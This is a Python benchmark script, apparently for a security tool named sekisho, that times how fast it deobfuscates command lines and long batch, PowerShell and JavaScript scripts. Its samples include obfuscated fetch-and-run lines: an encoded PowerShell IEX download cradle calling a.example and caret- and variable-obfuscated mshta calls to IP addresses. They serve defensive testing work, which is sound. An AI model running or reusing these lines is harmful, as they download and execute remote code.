"""Scripts: command lines unfolded a second, and how fast long scripts of each language are read.

Run: ./dev bench scripts
"""

from __future__ import annotations

import base64
import time
from collections.abc import Callable

from sekisho.analyzers._jscript_fold import unfold_jscript
from sekisho.analyzers._powershell_script import unfold_powershell
from sekisho.analyzers.command_line import unfold, unfold_shell

ENCODED = base64.b64encode(
    "IEX (New-Object Net.WebClient).DownloadString('http://a.example/s')".encode("utf-16-le")
).decode()
LINES = {
    "plain": r'"C:\Program Files\Vendor\app.exe" --type=renderer --lang=ja --field-trial-handle=1234',
    "carets and a hexadecimal address": "cmd /c m^sh^t^a h^tt^p^:/^/0xb907d607/fer/fe3.html",
    "variables": 'cmd /V:ON/C"set x=ms&&set y=hta http://192.0.2.1/&&!x!!y!"',
    "encoded PowerShell": f"powershell -nop -w hidden -enc {ENCODED}",
}
BATCH = (
    "@echo off\n"
    + 'set "a=one"\nif exist %a% (\n  copy /y %a% C:\\Users\\Public\\b.txt\n)\necho %a% & start calc.exe\n' * 2_000
)
POWERSHELL = (
    "$a = 'x' + 'y'; $b = \"{1}{0}\" -f 'c','d'\nif ($a -eq $b) { Get-ChildItem C:\\ | Where-Object { $_.Length -gt 5 } }\n"
    * 1_500
)
JAVASCRIPT = (
    'function f(a,b){if(a===b){return a.c.d(function(e){return e+1})}var g=["x","y"],h="a"+"b";return g[0]+h}\n' * 2_500
)


def best(run: Callable[[], object], times: int = 3) -> float:
    """Give the shortest CPU time of a few runs, seconds."""
    spent = []
    for _ in range(times):
        started = time.process_time()
        run()
        spent.append(time.process_time() - started)
    return min(spent)


def main() -> None:
    """Print lines and kilobytes a second."""
    for name, line in LINES.items():
        print(f"unfold, {name}: {300 / best(lambda text=line: [unfold(text) for _ in range(300)]):,.0f} lines/s")
    for name, text, read in (
        ("batch", BATCH, lambda text: unfold_shell(text, batch=True)),
        ("PowerShell", POWERSHELL, unfold_powershell),
        ("JavaScript", JAVASCRIPT, unfold_jscript),
    ):
        result = read(text)
        print(
            f"{name} ({len(text) / 1e3:.0f} kB): {len(text) / 1e3 / best(lambda t=text, r=read: r(t), 2):,.0f} kB/s{result.cut and ', cut'}"
        )


if __name__ == "__main__":
    main()
